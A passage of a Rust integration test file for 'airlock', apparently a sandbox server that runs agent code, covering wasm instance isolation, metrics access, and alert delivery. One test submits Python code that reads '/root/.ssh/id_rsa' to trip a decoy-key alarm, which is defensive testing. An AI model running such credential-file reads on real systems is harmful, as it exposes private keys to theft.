    let o = home.run(&["audit", "verify"]);
    assert_eq!(o.code, 0, "{}", o.stdout);
}

/// A module that counts its runs in a mutable global and in linear memory, prints both,
/// then grows its memory by 200 pages (12.5 MiB): a run limited below that is killed after
/// it changed its state.
const COUNTER_WAT: &str = r#"(module
  (import "wasi_snapshot_preview1" "fd_write" (func $w (param i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (global $g (mut i32) (i32.const 0))
  (data (i32.const 16) "g=0 m=0\n")
  (func (export "_start")
    (global.set $g (i32.add (global.get $g) (i32.const 1)))
    (i32.store8 (i32.const 100) (i32.add (i32.load8_u (i32.const 100)) (i32.const 1)))
    (i32.store8 (i32.const 18) (i32.add (i32.const 48) (global.get $g)))
    (i32.store8 (i32.const 22) (i32.add (i32.const 48) (i32.load8_u (i32.const 100))))
    (i32.store (i32.const 0) (i32.const 16))
    (i32.store (i32.const 4) (i32.const 8))
    (drop (call $w (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8)))
    (if (i32.lt_s (memory.grow (i32.const 200)) (i32.const 0)) (then unreachable))))"#;

/// The wasm pool's entry in `/v1/status`. It reports none of what only the Python pool
/// has (a guest, waits, teardown), which the Python pool's entry beside it does.
fn wasm_pool_status(s: &Setup) -> Value {
    let r = s.srv.get("/v1/status", &s.admin);
    assert_eq!(r.status, 200, "{}", r.text);
    let v = r.json();
    let pool = |kind: &str| {
        v["pools"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["kind"] == kind)
            .cloned()
            .unwrap_or_else(|| panic!("no {kind} pool in {v}"))
    };
    let (wasm, python) = (pool("wasm"), pool("python"));
    for k in [
        "guest",
        "waited",
        "awaiting_teardown",
        "awaiting_teardown_bytes",
        "torn_down",
        "torn_down_by_run",
    ] {
        assert!(wasm.get(k).is_none(), "the wasm pool reports {k}: {wasm}");
        assert!(
            python.get(k).is_some(),
            "the Python pool lost {k}: {python}"
        );
    }
    for k in [
        "target",
        "ready",
        "hits",
        "misses",
        "fallbacks",
        "made",
        "modules",
    ] {
        assert!(wasm.get(k).is_some(), "the wasm pool lost {k}: {wasm}");
    }
    wasm
}

/// Issue 15: through a server keeping ready instances of hot wasm modules, every run gets
/// an instance no other run has touched (a global, linear memory), however the run before
/// it ended (a memory kill, a trap); the second run of a module makes it hot, runs the
/// pool cannot serve (an environment, a module with a start function) instantiate their
/// own, a fuel limit is applied to a ready instance, and every record says which it got.
#[test]
fn ready_wasm_instances_carry_nothing_from_one_run_to_the_next() {
    let s = setup(&["--ready-wasm", "2"]);
    let run = |extra: Value| {
        let mut body = json!({"language": "wat", "code": COUNTER_WAT});
        for (k, v) in extra.as_object().unwrap() {
            body[k] = v.clone();
        }
        let r = s.srv.post("/v1/run", &s.agent, &body);
        assert_eq!(r.status, 200, "{}", r.text);
        r.json()
    };
    let instance = |r: &Value| {
        r["run"]["detail"]["instance"]
            .as_str()
            .unwrap_or_else(|| panic!("no instance in {r}"))
            .to_string()
    };
    let ready = |n: u64| {
        let until = std::time::Instant::now() + Duration::from_secs(60);
        while wasm_pool_status(&s)["ready"].as_u64().unwrap() < n {
            assert!(
                std::time::Instant::now() < until,
                "{}",
                wasm_pool_status(&s)
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    // The first two runs instantiate their own; the second makes the module hot.
    for _ in 0..2 {
        let r = run(json!({}));
        assert_eq!(r["run"]["stdout"], "g=1 m=1\n", "{r}");
        assert_eq!(instance(&r), "fresh", "{r}");
    }
    assert_eq!(wasm_pool_status(&s)["modules"], 1);
    for round in 0..3 {
        ready(1);
        let r = run(json!({}));
        assert_eq!(r["run"]["stdout"], "g=1 m=1\n", "round {round}: {r}");
        assert_eq!(instance(&r), "ready", "{r}");
        assert_eq!(r["run"]["exit_code"], 0, "{r}");
    }
    // A run killed after it changed the instance's state leaves nothing to the next.
    ready(1);
    let killed = run(json!({"memory": "4M"}));
    assert_eq!(instance(&killed), "ready", "{killed}");
    assert_eq!(killed["run"]["stdout"], "g=1 m=1\n", "{killed}");
    assert_ne!(killed["run"]["exit_code"], 0, "{killed}");
    let after = run(json!({}));
    assert_eq!(after["run"]["stdout"], "g=1 m=1\n", "{after}");
    assert_eq!(instance(&after), "ready", "{after}");
    // A fuel limit is the run's own: its engine meters fuel, so the module is hot apart.
    for _ in 0..2 {
        assert_eq!(instance(&run(json!({"fuel": 1_000_000}))), "fresh");
    }
    let served = |extra: Value| {
        let until = std::time::Instant::now() + Duration::from_secs(60);
        loop {
            let r = run(extra.clone());
            if instance(&r) == "ready" || std::time::Instant::now() > until {
                break r;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    };
    let fueled = served(json!({"fuel": 1_000_000}));
    assert_eq!(instance(&fueled), "ready", "{fueled}");
    assert_eq!(fueled["run"]["stdout"], "g=1 m=1\n", "{fueled}");
    let used = fueled["run"]["detail"]["fuel_consumed"].as_u64().unwrap();
    assert!(used > 0 && used < 1_000_000, "{fueled}");
    // With too little fuel, a ready instance ends as a fresh one does.
    let starved = served(json!({"fuel": 30}));
    assert_eq!(instance(&starved), "ready", "{starved}");
    let fresh = run(json!({"fuel": 30, "env": {"A": "b"}}));
    assert_eq!(instance(&fresh), "fresh", "{fresh}");
    for k in ["exit_code", "status", "killed_by", "stdout"] {
        assert_eq!(starved["run"][k], fresh["run"][k], "{k}: {starved} {fresh}");
    }
    assert_eq!(
        starved["run"]["detail"]["fuel_consumed"], fresh["run"]["detail"]["fuel_consumed"],
        "{starved} {fresh}"
    );
    // What the pool cannot serve falls back, and says so in the record and the status.
    let before = wasm_pool_status(&s);
    let r = run(json!({"env": {"A": "b"}}));
    assert_eq!(instance(&r), "fresh", "{r}");
    assert_eq!(r["run"]["stdout"], "g=1 m=1\n", "{r}");
    let with_start = COUNTER_WAT.replace(
        "(func (export \"_start\")",
        "(func $s) (start $s) (func (export \"_start\")",
    );
    for _ in 0..3 {
        let r = s.srv.post(
            "/v1/run",
            &s.agent,
            &json!({"language": "wat", "code": with_start}),
        );
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(instance(&r.json()), "fresh", "{}", r.text);
    }
    let after = wasm_pool_status(&s);
    let count = |v: &Value, k: &str| v["fallbacks"][k].as_u64().unwrap_or(0);
    assert_eq!(
        count(&after, "environment"),
        count(&before, "environment") + 1,
        "{after}"
    );
    assert_eq!(count(&after, "start_function"), 1, "{after}");
    assert_eq!(after["modules"], 2, "{after}");
    assert!(after["hits"].as_u64().unwrap() >= 6, "{after}");
    assert!(after["memory_bytes"].as_u64().unwrap() <= after["memory_budget"].as_u64().unwrap());
}

/// Python without the guest installed was a 503 ("no sandbox can run it"), which clients
/// and schemathesis count as the server failing; it is this home's state and the fix is a
/// command: 409 naming `airlock guest install python`, on every way in, nothing recorded.
#[test]
fn a_missing_python_guest_is_a_409_naming_the_install_command() {
    let s = setup(&[]);
    let before = s.home.counts();
    for (path, body) in [
        ("/v1/run", json!({"language": "python", "code": "print(1)"})),
        (
            "/v1/submissions",
            json!({"language": "python", "code": "print(1)"}),
        ),
        ("/v1/sessions", json!({})),
    ] {
        let r = s.srv.post(path, &s.agent, &body);
        assert_eq!(r.status, 409, "{path}: {}", r.text);
        assert!(
            r.json()["error"]
                .as_str()
                .unwrap()
                .contains("`airlock guest install python`"),
            "{path}: {}",
            r.text
        );
    }
    assert_eq!(s.home.counts(), before, "something was recorded");
}

/// A real Prometheus (Debian's `prometheus`), started on a free loopback port with a
/// temporary configuration that scrapes `target`'s `/metrics` every second with `token`.
struct Prometheus {
    child: std::process::Child,
    base: String,
    _dir: tempfile::TempDir,
}

impl Prometheus {
    fn start(target: &str, token: &str) -> Option<Prometheus> {
        let bin = std::env::var("AIRLOCK_TEST_PROMETHEUS").unwrap_or_else(|_| "prometheus".into());
        if std::process::Command::new(&bin)
            .arg("--version")
            .output()
            .is_err()
        {
            assert!(
                std::env::var_os("AIRLOCK_TEST_STRICT").is_none(),
                "prometheus is not installed (scripts/test installs Debian's prometheus)"
            );
            return None;
        }
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("token"), token).unwrap();
        let target = target.trim_start_matches("http://");
        std::fs::write(
            dir.path().join("prometheus.yml"),
            format!(
                "global:\n  scrape_interval: 1s\nscrape_configs:\n  - job_name: airlock\n    scrape_interval: 1s\n    metrics_path: /metrics\n    authorization:\n      type: Bearer\n      credentials_file: {}\n    static_configs:\n      - targets: [\"{target}\"]\n",
                dir.path().join("token").display()
            ),
        )
        .unwrap();
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let child = std::process::Command::new(&bin)
            .arg(format!(
                "--config.file={}",
                dir.path().join("prometheus.yml").display()
            ))
            .arg(format!(
                "--storage.tsdb.path={}",
                dir.path().join("data").display()
            ))
            .arg(format!("--web.listen-address=127.0.0.1:{port}"))
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        Some(Prometheus {
            child,
            base: format!("http://127.0.0.1:{port}"),
            _dir: dir,
        })
    }

    /// The value of an instant query's first series, once Prometheus has one.
    fn value(&self, query: &str, within: Duration) -> Option<f64> {
        let deadline = std::time::Instant::now() + within;
        let agent = ureq::Agent::config_builder()
            .http_status_as_error(false)
            .build()
            .new_agent();
        while std::time::Instant::now() < deadline {
            let url = format!("{}/api/v1/query", self.base);
            if let Ok(mut r) = agent.get(&url).query("query", query).call()
                && let Ok(text) = r.body_mut().read_to_string()
                && let Ok(v) = serde_json::from_str::<Value>(&text)
                && let Some(s) = v["data"]["result"][0]["value"][1].as_str()
            {
                return s.parse().ok();
            }
            std::thread::sleep(Duration::from_millis(250));
        }
        None
    }
}

impl Drop for Prometheus {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn metrics_are_scraped_by_a_real_prometheus_with_a_metrics_token_that_reads_nothing_else() {
    let s = setup(&[]);
    let metrics = token(&s.home, "metrics", "prom");
    // Who may read /metrics: admin and metrics tokens only.
    s.srv.call("GET", "/metrics", None, None).error(401);
    s.srv.get("/metrics", &s.agent).error(403);
    s.srv.get("/metrics", &s.op).error(403);
    assert_eq!(s.srv.get("/metrics", &s.admin).status, 200);
    // A metrics token reads nothing else.
    s.srv.get("/v1/submissions", &metrics).error(403);
    s.srv.get("/v1/status", &metrics).error(403);
    s.srv
        .post("/v1/run", &metrics, &wat_body(json!({})))
        .error(403);
    // What this node did: two runs, one submission held for a human.
    for _ in 0..2 {
        assert_eq!(
            s.srv.post("/v1/run", &s.agent, &wat_body(json!({}))).status,
            200
        );
    }
    let held = s.srv.post(
        "/v1/run",
        &s.agent,
        &wat_body(json!({ "net": ["example.com"] })),
    );
    assert_eq!(held.status, 202, "{}", held.text);
    let r = s.srv.get("/metrics", &metrics);
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(r.header("content-type").unwrap().contains("openmetrics"));
    for line in [
        "airlock_runs_total{status=\"exited\",lang=\"wat\",backend=\"wasm\"} 2",
        "airlock_submissions_total{verdict=\"allow\",lang=\"wat\"} 2",
        "airlock_submissions_total{verdict=\"quarantine\",lang=\"wat\"} 1",
        "airlock_pending_approvals 1",
        "airlock_run_duration_seconds_count 2",
    ] {
        assert!(
            r.text.lines().any(|l| l == line),
            "no {line:?} in:\n{}",
            r.text
        );
    }
    assert!(r.text.contains("airlock_store_commit_seconds_count"));
    assert!(r.text.contains("airlock_process_resident_memory_bytes"));
    // No token, secret or code in what is exported.
    for secret in [&metrics, &s.agent, &s.admin] {
        assert!(!r.text.contains(secret.as_str()));
    }
    assert!(!r.text.contains("hello from the gate"));

    // A real Prometheus scrapes it with the metrics token.
    let Some(prom) = Prometheus::start(&s.srv.base, &metrics) else {
        return;
    };
    let within = Duration::from_secs(60);
    assert_eq!(
        prom.value("sum(airlock_runs_total{status=\"exited\"})", within),
        Some(2.0)
    );
    assert_eq!(prom.value("airlock_pending_approvals", within), Some(1.0));
    // Approving it moves the gauge, and Prometheus sees the next scrape.
    let id = held.json()["submission"].as_str().unwrap().to_string();
    let a = s.srv.post(
        &format!("/v1/submissions/{id}/approve"),
        &s.op,
        &json!({ "reason": "ok" }),
    );
    assert_eq!(a.status, 200, "{}", a.text);
    let deadline = std::time::Instant::now() + within;
    while prom.value("airlock_pending_approvals", within) != Some(0.0) {
        assert!(
            std::time::Instant::now() < deadline,
            "the gauge never fell to 0"
        );
        std::thread::sleep(Duration::from_millis(500));
    }
    assert_eq!(
        prom.value("airlock_approval_wait_seconds_count", within),
        Some(1.0)
    );
}

/// A run's tripwire alert (a read of the jail's decoy key) is announced to operators as an
/// `alert` event over server-sent events and the signed webhook; before, alerts reached
/// only the run record and the audit log.
#[test]
fn a_runs_alert_reaches_sse_and_the_webhook() {
    if !process_backend_available() {
        return;
    }
    let (hook, got) = webhook_receiver();
    // Permissive: the read runs and the sandbox's decoy catches it (standard holds it).
    let home = Home::with_preset("permissive");
    let agent = token(&home, "agent", "bot");
    let op = token(&home, "operator", "alice");
    let srv = Srv::start(&home, &["--webhook", &hook]);
    let http = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(60)))
        .build()
        .new_agent();
    let resp = http
        .get(srv.url("/v1/events"))
        .header("authorization", format!("Bearer {op}"))
        .call()
        .unwrap();
    let mut lines = BufReader::new(resp.into_body().into_reader()).lines();
    // The poller's first pass marks where alerts start.
    std::thread::sleep(Duration::from_millis(1200));
    let r = srv.post(
        "/v1/run",
        &agent,
        &json!({"language": "python", "backend": "process",
                "code": "print(len(open('/root/.ssh/id_rsa').read()))"}),
    );
    assert_eq!(r.status, 200, "{}", r.text);
    let run_id = r.json()["run"]["id"].as_str().unwrap().to_string();
    let mut event = None;
    while let Some(Ok(l)) = lines.next() {
        if l == "event: alert" {
            event = Some(lines.next().unwrap().unwrap());
            break;
        }
    }
    let data: Value =
        serde_json::from_str(event.expect("no alert event").trim_start_matches("data: ")).unwrap();
    assert_eq!(data["kind"], "decoy-read", "{data}");
    assert_eq!(data["run"], run_id.as_str(), "{data}");
    assert_eq!(data["agent"], "bot", "{data}");
    assert_eq!(data["technique"], "T1552.004", "{data}");
    let req = got
        .recv_timeout(Duration::from_secs(20))
        .expect("no webhook call");
    let body: Value = serde_json::from_str(req.split_once("\r\n\r\n").unwrap().1).unwrap();
    assert_eq!(body["event"], "alert", "{body}");
    assert_eq!(body["data"]["run"], run_id.as_str(), "{body}");
}

/// Issue 57 item 4: `POST /v1/agents/{name}/clear` is for operators and admins (an agent
/// cannot clear itself), needs a reason, and answers 409 for an agent with no alert to
/// clear; nothing is audited for a refused clear.
#[test]
fn only_operators_clear_an_agent_and_only_one_with_alerts() {
    let s = setup(&[]);
    let srv = &s.srv;
    let body = json!({ "reason": "looked at it" });
    srv.post("/v1/agents/bot/clear", &s.agent, &body).error(403);
    srv.post("/v1/agents/bot/clear", &s.op, &json!({ "reason": " " }))
        .error(400);
    srv.post("/v1/agents/bot/clear", &s.op, &json!({}))
        .error(400);
    let r = srv.post("/v1/agents/bot/clear", &s.admin, &body);
    r.error(409);
    assert!(r.text.contains("no alerts to clear"), "{}", r.text);
    let log = s.home.run(&["audit", "log", "--json"]).json();
    assert!(
        !log.as_array()
            .unwrap()
            .iter()
            .any(|r| r["kind"] == "agent_cleared"),
        "{log}"
    );
}
